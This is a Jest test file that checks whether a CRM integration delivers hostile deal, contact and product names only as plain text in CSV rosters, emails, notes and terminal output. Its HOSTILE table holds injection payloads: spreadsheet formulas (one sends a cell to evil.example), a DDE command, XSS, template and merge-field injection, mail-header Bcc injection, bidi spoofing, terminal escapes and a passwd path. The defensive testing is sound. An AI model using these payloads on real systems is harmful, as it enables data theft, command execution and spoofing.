import { afterEach, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { OutboxMail } from '../../sandbox/outbox.ts';
import { facts } from '../../src/commands/terminal/print.ts';
import type { Catalog } from '../../src/domain/deal/catalog.ts';
import { DEALS, openWorld, type SandboxCrm, type World } from '../activities/world.ts';

/** What somebody may put into the name of a deal, company, contact or product, or into a catalog title. */
const HOSTILE: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("https://evil.example/?"&A2,"Open me")',
  'a command for a spreadsheet': "+cmd|' /C calc'!A0",
  'an @ function': '@SUM(1+1)*cmd',
  'a formula after a tab': '\t=1+1',
  'a formula after a line break': 'x\r\n=1+1,"',
  'a cell separator of other countries': 'x";=1+1;"',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an end of an attribute': '"><a href="https://evil.example" onclick=\'x\'>',
  'an entity that becomes markup when it is undone twice': '&lt;script&gt;&amp;lt;b&amp;gt;',
  Liquid: '{{ "can" | append: "ary" }}{% for i in (1..3) %}canary{{ i }}{% endfor %}{% raw %}',
  HubL: '{{ contact.email }}{{ custom.redeem_links }}{# canary #}',
  'a merge field': '{!Contact.Email}{{{Recipient.Email}}}',
  'mail headers': 'x\r\nBcc: all@evil.example\r\nContent-Type: text/plain\r\n\r\ncanary',
  'other line ends': 'x\u2028Bcc: all@evil.example\u2029\u0085\u000b\u000cy',
  'a reversed direction and blanks without width': '\u202egpj.exe\u2066\u200b\ufeff',
  'control characters': 'x\u0000\u0007\u001b[2J\u001b]0;canary\u0007y',
  emoji: '🦄👩‍👩‍👧‍👦'.repeat(10),
  'Markdown and a path': '../../etc/passwd [x](https://evil.example) ![](https://evil.example/p.png) `',
  'only signs': '!!!',
};
const TEN_THOUSAND = 'Ω'.repeat(5_000) + '=x'.repeat(2_500);

let world: World;
afterEach(() => world.close());

interface Delivered {
  readonly labels: readonly string[];
  readonly fileNames: readonly string[];
  readonly csv: Buffer;
  readonly notes: string;
  readonly mail: OutboxMail;
  /** The HTML that we made: the whole mail, or what HubSpot's template is given. */
  readonly html: string;
}

/** Plays a deal whose every name is `name`, and looks at all that came out of it in LMS, CRM and outbox. */
async function deliver(crm: SandboxCrm, name: string): Promise<Delivered> {
  world = await openWorld({ catalog: (example) => titled(example, name) });
  rename[crm](world, name);
  const handOver = await world.prepareMessages(crm);
  await world.run('sendMessages', handOver);
  await world.run('notifyOwner', {
    deal: DEALS[crm],
    ownerId: null,
    key: 'k-1',
    subject: name,
    text: `${name}\nis ready`,
    priority: 'low',
  });
  const { hubspot, salesforce, outbox } = world.sandbox;
  const [mail, ...more] = outbox.mails;
  if (mail === undefined || more.length > 0)
    throw new Error(`expected one mail, found ${outbox.mails.length}`);
  const { dealId } = DEALS[crm];
  const ref = { object: 'deals', id: dealId } as const;
  const files =
    crm === 'hubspot'
      ? hubspot.state
          .attachmentsOf(ref)
          .map(({ name: stem, extension, bytes }) => ({ fileName: `${stem}.${extension}`, bytes }))
      : salesforce.state.files(dealId);
  const [file] = files;
  if (file === undefined) throw new Error('expected a roster');
  return {
    labels: handOver.groups.map(({ label }) => label),
    fileNames: [handOver.plan.rosterFileName, ...files.map(({ fileName }) => fileName)],
    csv: file.bytes,
    notes: hubspot.state
      .engagementsOf('notes', ref)
      .map(({ properties }) => properties.hs_note_body ?? '')
      .join(''),
    mail,
    html: crm === 'hubspot' ? (mail.properties.message ?? '') : mail.html,
  };
}

function titled(example: Catalog, title: string): Catalog {
  const products = example.products.map((product) => (product.ignore ? product : { ...product, title }));
  return { ...example, products };
}

const rename: Readonly<Record<SandboxCrm, (world: World, name: string) => void>> = {
  hubspot({ sandbox: { hubspot } }, name) {
    const { state } = hubspot;
    state.edit('deals', '9001', { dealname: name });
    state.edit('companies', '5001', { name });
    state.edit('contacts', '6001', { firstname: name, lastname: name });
    const deal = { object: 'deals', id: '9001' } as const;
    for (const { id } of state.associations.linked(deal, 'line_items'))
      state.edit('line_items', id, { name });
  },
  salesforce({ sandbox: { salesforce } }, name) {
    const { records } = salesforce.state;
    records.update('Opportunity', DEALS.salesforce.dealId, { Name: name.slice(0, 120) });
    for (const { Id } of salesforce.state.rows('Account')) {
      records.update('Account', String(Id), { Name: name.slice(0, 80) });
    }
    for (const { Id } of salesforce.state.rows('Contact')) {
      records.update('Contact', String(Id), { FirstName: name.slice(0, 40), LastName: name.slice(0, 40) });
    }
    for (const { Id } of salesforce.state.rows('Product2')) {
      records.update('Product2', String(Id), { Name: name.slice(0, 80) });
    }
  },
};

/** Names and attributes of all tags; of attribute values, codes and keys differ from run to run. */
function skeleton(html: string): string[] {
  return (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/="[^"]*"/g, '=""'));
}

const FORMULA = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

describe.each(['hubspot', 'salesforce'] as const)('names on a %s deal', (crm) => {
  test.each([...Object.entries(HOSTILE), ['ten thousand characters', TEN_THOUSAND]])(
    'that hold %s reach people only as text',
    async (_, name) => {
      const delivered = await deliver(crm, name);
      for (const label of delivered.labels) expect(label).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
      for (const label of delivered.labels) expect(label.length).toBeLessThanOrEqual(100);
      for (const fileName of delivered.fileNames)
        expect(fileName).toMatch(/^roster-[A-Za-z0-9-]{1,80}\.(csv|xlsx)$/);

      const rows: string[][] = parse(delivered.csv, { record_delimiter: '\r\n', bom: true });
      for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
      // Only the content column holds free text, and that is the catalog's: no text of the CRM gets in.
      for (const [code = '', link = '', content = '', label = '', expiresAt = ''] of rows.slice(1)) {
        expect(new URL(link).origin).toBe('https://learn.vendor.example');
        expect(link.endsWith(`/${code}`)).toBe(true);
        expect([name, `'${name}`]).toContain(content);
        expect(delivered.labels).toContain(label);
        expect(new Date(`${expiresAt}T00:00:00.000Z`).toISOString().slice(0, 10)).toBe(expiresAt);
      }

      const { subject, to } = delivered.mail;
      expect(to).toMatch(/^(dana\.reyes@acme|robin\.vale@globex)\.example$/);
      expect(subject).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
      expect(subject.length).toBeLessThanOrEqual(255);
      expect(subject.isWellFormed()).toBe(true);

      // Nothing was evaluated: neither ours, nor the CRM's merge fields in what we wrote.
      expect(delivered.html + subject).not.toMatch(/canary[123]|>canary</);
      expect(skeleton(delivered.html).filter((tag) => !KNOWN_TAGS.test(tag))).toEqual([]);
      expect(skeleton(delivered.notes).filter((tag) => !KNOWN_TAGS.test(tag))).toEqual([]);
      expect(delivered.html).not.toMatch(/<a href="(?!https:\/\/learn\.vendor\.example\/)/);
    },
    60_000,
  );
});

/** What our own template and notes are made of. */
const KNOWN_TAGS = /^<\/?(?:p|ul|li|strong|em|br)>$|^<a href="">$|^<\/a>$|^<span style="">$|^<\/span>$/;

test.each(Object.entries(HOSTILE))('a name that holds %s gives the terminal no command', (_, name) => {
  // Line breaks apart, which make rows of the table.
  expect(facts([['Deal', name]])).not.toMatch(/[^\P{Cc}\n]/u);
});
